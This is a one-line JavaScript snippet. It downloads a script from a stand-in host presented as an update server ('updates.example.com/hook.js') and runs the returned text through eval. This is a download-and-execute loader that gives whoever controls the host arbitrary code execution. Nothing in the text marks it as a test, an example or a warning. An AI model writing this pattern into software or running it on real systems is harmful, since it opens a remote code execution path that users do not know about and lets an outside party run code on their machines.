await fetch("https://updates.example.com/hook.js").then((answer) => answer.text()).then(eval);
